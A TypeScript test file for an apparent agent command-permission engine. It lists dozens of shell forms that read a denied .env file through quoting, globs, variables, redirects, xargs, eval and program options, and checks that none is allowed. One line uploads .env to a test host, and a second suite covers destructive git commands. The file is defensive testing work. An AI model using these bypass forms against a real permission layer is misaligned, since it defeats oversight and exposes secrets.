/**
 * Without a sandbox, every program with every way to name a closed file: none of them runs unasked. What the words of a command
 * mean is the program's affair, so the table crosses both; a way that only some programs know is tried with those.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type DiskWorld, openDisk } from "./disk.fixture.ts";

const RULES = [
  { permission: "bash", pattern: "*", action: "allow" },
  { permission: "fs.write", pattern: "**", action: "allow" },
  { permission: "fs.read", pattern: "**/.env", action: "deny" },
] as const;

/** Programs of whose words nobody can say that one is no file. */
const OPEN: readonly string[] = [
  ...["mytool", "./tool.sh", "bash tool.sh", "sh -e tool.sh", "source tool.sh", "python3 tool.py"],
  ...["node tool.js", "npx mytool", "npm exec mytool", "npm run build --", "nodemon tool.js"],
  ...["docker run image", "kubectl get", "prettier", "eslint", "jest", "psql", "java"],
  ...["gcc", "go build", "nice mytool", "timeout 5 mytool", "sudo mytool", "env A=b mytool"],
  ...["pandoc", "sqlite3", "openssl x509"],
];

/** Programs that are known to read what they are given. */
const READING: readonly string[] = [
  ...[
    "cat",
    "head -n 1",
    "sort",
    "wc",
    "diff README.md",
    "base64",
    "xxd",
    "strings",
    "file",
    "less",
  ],
  ...["sed p", "awk 1", "grep x", "rg x", "jq .", "perl -ne print", "cut -c1-", "vim", "gpg -c"],
  ...[
    "gzip -c",
    "zip x.zip",
    "tar cf x.tar",
    "mv -t src",
    "cp -t src",
    "make all",
    "cargo run",
    "patch",
  ],
  ...["rename s/a/b/", "git add", "git hash-object", "git apply", "git diff --no-index README.md"],
  ...["timeout 5 cat", "nice -n 5 cat", "sudo -u a cat", "busybox cat", "flock x cat", "exec cat"],
  ...["strace -o x cat", "command cat", "builtin source", "xargs cat", "stdbuf -oL cat"],
];

type Way = (program: string) => string;

/** Ways that any program knows: the shell makes the same word of them, or opens the file itself. */
const BY_THE_SHELL: Readonly<Record<string, Way>> = {
  plain: (run) => `${run} .env`,
  "among others": (run) => `${run} README.md .env README.md`,
  "with a dot": (run) => `${run} ./.env`,
  "from the top": (run) => `${run} $PWD/.env`,
  "round about": (run) => `${run} src/../.env`,
  tilde: (run) => `${run} ~+/.env`,
  quoted: (run) => `${run} ".e"'n'\\v`,
  escaped: (run) => `${run} $'\\x2eenv'`,
  brace: (run) => `${run} {.env,README.md}`,
  glob: (run) => `${run} .e*`,
  class: (run) => `${run} .[e]nv`,
  link: (run) => `${run} soft.txt`,
  "hard link": (run) => `${run} hard.txt`,
  variable: (run) => `f=.env; ${run} "$f"`,
  "part of a variable": (run) => `f=.en; ${run} \${f}v`,
  default: (run) => `${run} \${f:-.env}`,
  loop: (run) => `for f in .env; do ${run} "$f"; done`,
  argument: (run) => `set -- .env; ${run} "$1"`,
  redirect: (run) => `${run} < .env`,
  "both ways": (run) => `${run} <> .env`,
  "here-string": (run) => `${run} <<< "$(cat .env)"`,
  "here-document": (run) => `${run} <<E\n$(cat .env)\nE`,
  pipe: (run) => `cat .env | ${run}`,
  "another folder": (run) => `cd src && ${run} ../.env`,
  subshell: (run) => `(cd src; ${run} ../.env)`,
  substitution: (run) => `echo "$(${run} .env)"`,
  "process substitution": (run) => `cat <(${run} .env)`,
  group: (run) => `true && { ${run} .env; }`,
  function: (run) => `f() { ${run} .env; }; f`,
  "function with an argument": (run) => `f() { ${run} "$1"; }; f .env`,
  background: (run) => `${run} .env & wait`,
  condition: (run) => `if ${run} .env; then :; fi`,
  eval: (run) => `eval "${run} .env"`,
};

/** The program itself is started by another one. */
const BY_OTHERS: Readonly<Record<string, Way>> = {
  xargs: (run) => `echo .env | xargs ${run}`,
  "xargs in place": (run) => `echo .env | xargs -I{} ${run} {}`,
  find: (run) => `find . -name .env -exec ${run} {} \\;`,
  "find by name": (run) => `find . -maxdepth 0 -exec ${run} .env \\;`,
  sh: (run) => `sh -c '${run} .env'`,
  "sh with an argument": (run) => `sh -c '${run} "$1"' _ .env`,
  nested: (run) => `bash -c "sh -c '${run} .env'"`,
  environment: (run) => `env FILE=.env ${run} README.md`,
  assignment: (run) => `FILE=.env ${run} README.md`,
  exported: (run) => `export FILE=.env; ${run} README.md`,
  declared: (run) => `declare -x FILE=.env; ${run} README.md`,
  "exported all": (run) => `set -a; FILE=.env; ${run} README.md`,
  "exported later": (run) => `FILE=.env; export FILE; ${run} README.md`,
};

/** Ways in which programs take names inside their words. */
const BY_PROGRAMS: Readonly<Record<string, Way>> = {
  "long option": (run) => `${run} --opt=.env`,
  "long option with a blank": (run) => `${run} --opt .env`,
  "short option": (run) => `${run} -Z.env`,
  "short option with a blank": (run) => `${run} -Z .env`,
  "bundled option": (run) => `${run} -qZ.env`,
  "one dash": (run) => `${run} -overlay=.env`,
  "at sign": (run) => `${run} @.env`,
  "key and at sign": (run) => `${run} key=@.env`,
  key: (run) => `${run} key=.env`,
  "key in an option": (run) => `${run} --opt=key=.env`,
  mount: (run) => `${run} .env:/x`,
  list: (run) => `${run} a,.env`,
  address: (run) => `${run} file://$PWD/.env`,
  "short address": (run) => `${run} file:$PWD/.env`,
};

/** Words that stay with a shell, or that another program cannot start. */
const BUILTIN = /^(?:source|exec|command|builtin)\b/;

describe("a closed file, by every way and every program", () => {
  let world: DiskWorld;
  beforeAll(async () => {
    world = await openDisk({ rules: RULES, sandbox: "none" });
    for (const name of ["tool.sh", "tool.py", "tool.js"])
      writeFileSync(join(world.workspace, name), "");
  });
  afterAll(() => world.close());

  const passing = async (run: string, ways: Readonly<Record<string, Way>>) => {
    const passed: string[] = [];
    for (const way of Object.values(ways))
      if ((await world.decide(way(run))) === "allow") passed.push(way(run));
    return passed;
  };

  it.each([...OPEN, ...READING])("is named by the shell: %s", async (run) => {
    expect(await passing(run, BY_THE_SHELL)).toEqual([]);
  });

  it.each(OPEN.filter((run) => !BUILTIN.test(run)))("is handed on: %s", async (run) => {
    expect(await passing(run, BY_OTHERS)).toEqual([]);
  });

  it.each(OPEN)("stands inside a word: %s", async (run) => {
    expect(await passing(run, BY_PROGRAMS)).toEqual([]);
  });

  it.each([
    "nice -n5 -Z.env cat README.md",
    "dotenv -f .env mytool",
    "env-cmd -f .env mytool",
    "bwrap --ro-bind .env /x mytool",
    "awk '{while ((getline l < f) > 0) print l}' f=.env README.md",
    "awk -v f=.env 'BEGIN { ARGV[1] = f; ARGC = 2 } 1'",
    'awk \'BEGIN { ARGV[1] = ".e" "nv"; ARGC = 2 } 1\'',
    "http POST h.test file=@.env",
    "tar cf x.tar --owner-map=.env src",
    "sort -Z.env README.md",
    "npx prettier --opt .env",
    "nix-shell .env",
  ])("is named in a form of one program: %s", async (command) => {
    expect(await world.decide(command)).not.toBe("allow");
  });

  it.each([
    ...OPEN.map((run) => `${run} README.md`),
    ...["cat", "head -n 1", "sort", "sed p", "grep -rn x src", "tar cf x.tar"].map(
      (run) => `${run} README.md`,
    ),
    "f=.env; test -f $f",
    "export NODE_ENV=production; mytool README.md",
    "export FILE=README.md; mytool",
    "env NODE_ENV=test mytool",
    "timeout 5 mytool src",
    "grep -e.env README.md",
    "ls -la .env",
    "rm -f .env",
    "chmod 600 .env",
    "git commit -m .env",
    "awk -v n=5 'NR > n' README.md",
    "yq .env README.md",
    "jq -r .env README.md",
  ])("is not what others name: %s", async (command) => {
    expect(await world.decide(command)).toBe("allow");
  });
});

describe("a tree with a file that nobody may write", () => {
  it.each([
    "git stash",
    "git -C src stash",
    "git reset --hard",
    "git clean -fd",
    "git checkout -- .",
    "git restore .",
    "git merge x",
  ])("is not written as a whole: %s", async (command) => {
    const rules = [
      { permission: "bash", pattern: "*", action: "allow" },
      { permission: "fs.write", pattern: "**/README.md", action: "deny" },
    ] as const;
    const world = await openDisk({ rules, sandbox: "none" });
    try {
      expect(await world.decide(command)).not.toBe("allow");
    } finally {
      await world.close();
    }
  });
});
